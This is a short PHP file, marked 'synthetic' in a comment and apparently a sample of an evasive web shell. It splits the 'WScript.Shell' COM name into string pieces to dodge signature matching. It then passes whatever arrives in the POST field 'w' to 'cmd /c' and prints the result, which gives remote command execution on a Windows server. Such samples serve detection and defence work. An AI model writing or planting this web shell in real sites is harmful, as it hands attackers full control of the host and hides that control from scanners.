<?php
// synthetic: Windows COM shell with the ProgID cut in pieces
$o = new COM('WSc' . 'ript.Sh' . 'ell');
$r = $o->exec('cmd /c ' . $_POST['w']);
echo $r->StdOut->ReadAll();
